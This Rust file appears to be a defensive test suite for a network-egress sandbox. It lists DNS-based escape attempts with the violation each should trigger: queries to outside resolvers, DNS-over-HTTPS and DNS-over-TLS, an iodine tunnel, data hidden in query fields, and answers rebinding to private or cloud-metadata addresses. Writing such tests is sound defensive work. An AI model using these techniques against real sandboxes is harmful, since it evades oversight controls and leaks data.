//! Names: resolvers other than the job's, data in questions, and answers that lead elsewhere.

use super::{Attack, Expect, How, Layer, MARK, Proof, attack, v4, v6};
use crate::addresses::{ALLOWED, BLOCKED, CDN, DNS, METADATA, OTHER_DNS, PRIVATE};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

const WILDCARD: &str = "
version: 1
jobs: {default: {allow: [{host: '*.wild.test'}]}}
";
const ONE_ADDRESS: &str = "
version: 1
jobs: {default: {allow: [{host: here.test, ports: [80, 443]}]}}
";

const NAME: Expect = Expect::Violation("name");
const NO_RULE: Expect = Expect::Violation("no-rule");
const PRIVATE_ADDRESS: Expect = Expect::Violation("private-address");
/// The question that reaches the agent is not the one that leaves the host.
const AFRESH: Expect = Expect::Nothing("the resolver asks a question of its own");

/// Fetches a page from `here.test`.
const FETCH: How = How::Words(&["curl", "-sS", "-m", "5", "http://here.test/"]);

/// Another way to a resolver than port 53.
const fn resolver(
    name: &'static str,
    how: &'static [&'static str],
    ip: IpAddr,
    port: u16,
) -> Attack {
    attack(
        name,
        Layer::Connect,
        How::Words(how),
        Proof::To(ip, port),
        NO_RULE,
    )
}

/// A question for a name that is not allowed.
const fn asks(name: &'static str, how: How) -> Attack {
    attack(
        name,
        Layer::Resolver,
        how,
        Proof::Question("blocked.test"),
        NAME,
    )
}

/// A message whose bytes are not those of the question that it seems to be.
const fn hides(name: &'static str, script: &'static str) -> Attack {
    attack(name, Layer::Resolver, How::Python(script), MARK, AFRESH)
}

/// An allowed name that leads to this address.
const fn leads(
    name: &'static str,
    records: &'static [(&'static str, &'static str)],
    to: IpAddr,
) -> Attack {
    attack(
        name,
        Layer::Resolver,
        FETCH,
        Proof::To(to, 80),
        PRIVATE_ADDRESS,
    )
    .policy(ONE_ADDRESS)
    .records(records)
}

pub(super) const ATTACKS: &[Attack] = &[
    asks(
        "another_resolver_over_udp",
        How::Words(&["dig", "+tries=1", "@198.51.100.54", "secret.blocked.test"]),
    ),
    asks(
        "another_resolver_over_tcp",
        How::Words(&["dig", "+tcp", "+tries=1", "@198.51.100.54", "secret.blocked.test"]),
    ),
    asks(
        "another_resolver_over_ipv6",
        How::Words(&["dig", "+tries=1", "@2001:db8:2::54", "secret.blocked.test"]),
    ),
    asks(
        "another_resolver_over_tcp_and_ipv6",
        How::Words(&["dig", "+tcp", "+tries=1", "@2001:db8:2::54", "secret.blocked.test"]),
    ),
    asks(
        "a_question_to_the_hosts_own_resolver",
        How::Words(&["dig", "+tries=1", "@198.51.100.53", "secret.blocked.test"]),
    ),
    asks("a_name_without_a_rule", How::Words(&["curl", "-sS", "-m", "5", "https://secret.blocked.test/"])),
    attack(
        "another_name_of_an_allowed_address",
        Layer::Resolver,
        How::Words(&["curl", "-sS", "-m", "5", "https://shared.test/"]),
        Proof::Question("shared.test"),
        NAME,
    ),
    attack(
        "another_resolver_at_another_port",
        Layer::Packet,
        How::Words(&["dig", "+tries=1", "+time=1", "-p", "5000", "@198.51.100.20", "secret.blocked.test"]),
        Proof::To(v4(BLOCKED), 5000),
        NO_RULE,
    ),
    resolver(
        "dns_over_tls",
        &["dig", "+tls", "+tries=1", "@198.51.100.54", "secret.blocked.test"],
        v4(OTHER_DNS),
        853,
    ),
    resolver(
        "dns_over_https",
        &["dig", "+https", "+tries=1", "@198.51.100.54", "secret.blocked.test"],
        v4(OTHER_DNS),
        443,
    ),
    resolver(
        "dns_over_https_to_the_agents_own_resolver",
        &["dig", "+https", "+tries=1", "@198.51.100.53", "secret.blocked.test"],
        v4(DNS),
        443,
    ),
    resolver(
        "dns_over_https_by_curl",
        &[
            "curl", "-sS", "-m", "5", "--doh-insecure", "--doh-url",
            "https://[2001:db8:2::54]/dns-query", "https://allowed.test/",
        ],
        v6(OTHER_DNS),
        443,
    ),
    attack(
        "a_dns_tunnel_by_iodine",
        Layer::Mounts,
        How::Words(&["timeout", "5", "iodine", "-f", "-r", "-P", "x", "-d", "dns0", "198.51.100.53", "blocked.test"]),
        Proof::Question("blocked.test"),
        Expect::Nothing("it finds no tun device"),
    )
    .as_root()
    .needs("os.open('/dev/net/tun', os.O_RDWR)"),
    asks("a_dns_tunnel_in_names", How::Python("
for index in range(20):
    ask(question(f'{MARK.hex()}.{index}.blocked.test'))
")),
    asks("a_dns_tunnel_in_text_records", How::Python("
ask(question(f'{MARK.hex()}.blocked.test', kind=16))
")),
    attack(
        "a_text_record_of_an_allowed_name",
        Layer::Resolver,
        How::Python("ask(question('allowed.test', kind=16))"),
        // The class and the type of the question.
        Proof::Carrying(b"\x07allowed\x04test\0\0\x10\0\x01"),
        Expect::Violation("dns-type"),
    ),
    attack(
        "a_null_record_of_an_allowed_name",
        Layer::Resolver,
        How::Python("ask(question('allowed.test', kind=10))"),
        Proof::Carrying(b"\x07allowed\x04test\0\0\x0a\0\x01"),
        Expect::Violation("dns-type"),
    ),
    attack(
        "a_private_record_type_of_an_allowed_name",
        Layer::Resolver,
        How::Words(&["dig", "+tries=1", "allowed.test", "TYPE65280"]),
        Proof::Carrying(b"\x07allowed\x04test\0\xff\0\0\x01"),
        Expect::Violation("dns-type"),
    ),
    attack(
        "a_zone_transfer",
        Layer::Resolver,
        How::Words(&["dig", "+tries=1", "allowed.test", "AXFR"]),
        Proof::Carrying(b"\x07allowed\x04test\0\0\xfc\0\x01"),
        Expect::Violation("dns-type"),
    ),
    attack(
        "data_in_a_reverse_name",
        Layer::Resolver,
        How::Words(&["dig", "+tries=1", "6a6f62.66656e6365.in-addr.arpa", "PTR"]),
        Proof::Question("in-addr.arpa"),
        Expect::Refusal("name"),
    ),
    attack(
        "data_in_a_service_name",
        Layer::Resolver,
        How::Words(&["dig", "+tries=1", "_jobfence-secret._tcp.allowed.test", "SRV"]),
        MARK,
        Expect::Refusal("dns-type"),
    ),
    attack(
        "a_question_of_another_class",
        Layer::Resolver,
        How::Words(&["dig", "+tries=1", "jobfence-secret.blocked.test", "CH", "TXT"]),
        MARK,
        Expect::Refusal("dns-type"),
    ),
    attack(
        "many_names_below_a_wildcard",
        Layer::Resolver,
        How::Python("
for index in range(300):
    ask(question(f'n{index}.wild.test'))
ask(question('late.wild.test'))
"),
        Proof::Question("late.wild.test"),
        Expect::Violation("limit"),
    )
    .policy(WILDCARD),
    attack(
        "long_names_below_a_wildcard",
        Layer::Resolver,
        How::Python("
for index in range(40):
    ask(question('.'.join([f'{index:060}'] * 3) + '.wild.test'))
ask(question('.'.join(['9' * 60] * 3) + '.late.wild.test'))
"),
        Proof::Question("late.wild.test"),
        Expect::Violation("limit"),
    )
    .policy(WILDCARD),
    attack(
        "deep_names_below_a_wildcard",
        Layer::Resolver,
        How::Python("ask(question('a.b.c.d.e.f.g.h.i.j.k.wild.test'))"),
        Proof::Question("k.wild.test"),
        Expect::Violation("limit"),
    )
    .policy(WILDCARD),
    attack(
        "a_second_question_in_one_message",
        Layer::Resolver,
        How::Python("
ask(question('allowed.test', count=2, more=name('secret.blocked.test') + b'\\0\\1\\0\\1'))
"),
        Proof::Carrying(b"\x06secret\x07blocked"),
        Expect::Refusal("malformed"),
    ),
    attack(
        "a_second_message_in_one_stream",
        Layer::Resolver,
        How::Python("
message = question('allowed.test')
second = question('secret.blocked.test')
with socket.create_connection(('198.51.100.53', 53), 5) as s:
    s.sendall(vector(message, 2) + vector(second, 2))
    s.settimeout(1)
    try:
        while s.recv(4096): pass
    except TimeoutError: pass
"),
        Proof::Carrying(b"\x06secret\x07blocked"),
        NAME,
    ),
    hides("data_after_a_question", "ask(question('allowed.test') + MARK)"),
    hides("data_in_an_edns_option", "
option = struct.pack('!H', 65001) + vector(MARK, 2)
ask(question('allowed.test', additional=1, more=b'\\0' + struct.pack('!HHI', 41, 1232, 0) + vector(option, 2)))
"),
    hides("data_in_an_additional_record", "
extra = name('x.test') + struct.pack('!HHI', 16, 1, 0) + vector(vector(MARK, 1), 2)
ask(question('allowed.test', additional=1, more=extra))
"),
    attack(
        "data_in_the_case_of_letters",
        Layer::Resolver,
        How::Python("ask(question('aLlOwEd.TeSt'))"),
        Proof::Carrying(b"\x07aLlOwEd"),
        AFRESH,
    ),
    attack(
        "a_dynamic_update",
        Layer::Resolver,
        How::Python("ask(question('allowed.test', kind=6, flags=5 << 11, more=MARK))"),
        MARK,
        Expect::Refusal("malformed"),
    ),
    attack(
        "a_dot_inside_a_label",
        Layer::Resolver,
        How::Python("
header = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0)
ask(header + vector(b'allowed.test', 1) + b'\\0\\0\\1\\0\\1')
"),
        Proof::Carrying(b"\x0callowed.test"),
        NAME,
    ),
    attack(
        "a_zero_byte_inside_a_label",
        Layer::Resolver,
        How::Python("
header = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0)
ask(header + vector(b'allowed', 1) + vector(b'test\\0.evil', 1) + b'\\0\\0\\1\\0\\1')
"),
        Proof::Carrying(b"test\0.evil"),
        NAME,
    ),
    attack(
        "a_compression_pointer_in_a_question",
        Layer::Resolver,
        How::Python("
header = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0)
ask(header + b'\\6secret' + struct.pack('!H', 0xc000 + 23) + b'\\0\\1\\0\\1' + name('blocked.test'))
"),
        Proof::Carrying(b"\x06secret"),
        Expect::Refusal("malformed"),
    ),
    leads(
        "an_answer_in_a_private_network",
        &[("here.test", "10.77.0.9")],
        v4(PRIVATE),
    ),
    leads(
        "an_answer_in_a_private_ipv6_network",
        &[("here.test", "fd00:77::9")],
        v6(PRIVATE),
    ),
    leads(
        "an_answer_in_shared_address_space",
        &[("here.test", "100.64.7.7")],
        IpAddr::V4(Ipv4Addr::new(100, 64, 7, 7)),
    ),
    leads(
        "an_answer_that_is_a_metadata_service",
        &[("here.test", "169.254.169.254")],
        v4(METADATA),
    ),
    leads(
        "an_answer_that_is_a_metadata_service_over_ipv6",
        &[("here.test", "fd00:ec2::254")],
        v6(METADATA),
    ),
    leads(
        "a_v4_mapped_answer",
        &[("here.test", "::ffff:10.77.0.9")],
        v4(PRIVATE),
    ),
    leads(
        "a_nat64_answer",
        &[("here.test", "64:ff9b::10.77.0.9")],
        IpAddr::V6(Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, 0x0a4d, 9)),
    ),
    leads(
        "a_6to4_answer",
        &[("here.test", "2002:a4d:9::1")],
        IpAddr::V6(Ipv6Addr::new(0x2002, 0x0a4d, 9, 0, 0, 0, 0, 1)),
    ),
    attack(
        "an_answer_that_is_a_group",
        Layer::Resolver,
        How::Python("
for entry in socket.getaddrinfo('here.test', 443, type=socket.SOCK_DGRAM): udp().sendto(MARK, entry[4])
"),
        Proof::To(IpAddr::V4(Ipv4Addr::new(224, 0, 0, 251)), 443),
        PRIVATE_ADDRESS,
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: here.test, ports: [443/udp], tls: off}]}}
")
    .records(&[("here.test", "224.0.0.251")]),
    attack(
        "an_answer_on_the_loopback_interface",
        Layer::Resolver,
        FETCH,
        Proof::Prints("somebody outside"),
        PRIVATE_ADDRESS,
    )
    .policy(ONE_ADDRESS)
    .records(&[("here.test", "127.0.0.1")])
    .prepare("
python3 -c \"
import socket
s = socket.create_server(('127.0.0.1', 80))
print('up', flush=True)
while True:
    c, _ = s.accept(); c.recv(999); c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nsomebody outside'); c.close()
\" > up & until grep -q up up; do sleep 0.01; done
"),
    attack(
        "a_record_off_the_chain",
        Layer::Connect,
        How::Shell("dig +short extra.test > answer; curl -sS -m 5 https://198.51.100.20/"),
        Proof::To(v4(BLOCKED), 443),
        NO_RULE,
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: extra.test}]}}
"),
    attack(
        "the_target_of_an_alias",
        Layer::Resolver,
        How::Shell("curl -sS https://alias.allowed.test/; curl -sS -m 5 https://cdn.other.test:8443/"),
        Proof::Question("cdn.other.test"),
        NAME,
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: alias.allowed.test}]}}
"),
    attack(
        "another_port_of_an_aliass_target",
        Layer::Connect,
        How::Shell("getent hosts alias.allowed.test; curl -sS -4 -m 5 https://alias.allowed.test:8443/"),
        Proof::To(v4(CDN), 8443),
        Expect::Violation("port"),
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: alias.allowed.test}]}}
"),
    asks("an_alias_of_the_c_library", How::Shell("
echo 'innocent secret.blocked.test' > aliases
HOSTALIASES=aliases getent ahosts innocent
")),
    attack(
        "a_hosts_file_of_its_own",
        Layer::Connect,
        How::Shell("
echo '198.51.100.20 allowed.test' > hosts
unshare -Urm sh -c 'mount --bind hosts /etc/hosts && curl -sS -m 5 http://allowed.test/'
"),
        Proof::To(v4(BLOCKED), 80),
        NO_RULE,
    ),
    asks("a_resolv_conf_of_its_own", How::Shell("
printf 'nameserver 198.51.100.54\\noptions use-vc\\n' > resolv
unshare -Urm sh -c 'mount --bind resolv /etc/resolv.conf && getent hosts secret.blocked.test'
")),
    attack(
        "an_allowed_name_with_another_address",
        Layer::Connect,
        How::Words(&["curl", "-sS", "-m", "5", "--resolve", "allowed.test:443:198.51.100.20", "https://allowed.test/"]),
        Proof::To(v4(BLOCKED), 443),
        NO_RULE,
    ),
    attack(
        "a_question_to_a_group",
        Layer::Connect,
        How::Python("udp().sendto(question('secret.blocked.test'), ('224.0.0.251', 5353))"),
        Proof::To(IpAddr::V4(Ipv4Addr::new(224, 0, 0, 251)), 5353),
        Expect::Refusal("multicast"),
    ),
    attack(
        "a_question_to_an_ipv6_group",
        Layer::Connect,
        How::Python("
udp(BLOCKED6).sendto(question('secret.blocked.test'), ('ff02::fb', 5353, 0, socket.if_nametoindex('eth0')))
"),
        Proof::To(IpAddr::V6(Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0xfb)), 5353),
        Expect::Refusal("multicast"),
    ),
    attack(
        "a_question_to_everybody",
        Layer::Connect,
        How::Python("
s = udp()
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(MARK, ('255.255.255.255', 137))
"),
        Proof::To(IpAddr::V4(Ipv4Addr::BROADCAST), 137),
        Expect::Refusal("multicast"),
    ),
    attack(
        "a_resolver_on_the_loopback_interface",
        Layer::Resolver,
        // What listens at 127.0.0.53 on many hosts asks for any name.
        How::Words(&["dig", "+tries=1", "+time=2", "@127.0.0.53", "secret.blocked.test"]),
        Proof::Question("blocked.test"),
        NAME,
    )
    .prepare("
socat UDP-LISTEN:53,bind=127.0.0.53,fork UDP:198.51.100.53:53 &
until grep -q 3500007F:0035 /proc/net/udp; do sleep 0.01; done
"),
    attack(
        "an_address_of_an_earlier_job",
        Layer::Connect,
        How::Python("tcp(ALLOWED, 443)"),
        Proof::To(v4(ALLOWED), 443),
        NO_RULE,
    )
    .policy("
version: 1
jobs: {default: {allow: [{host: v6only.test}]}}
"),
];
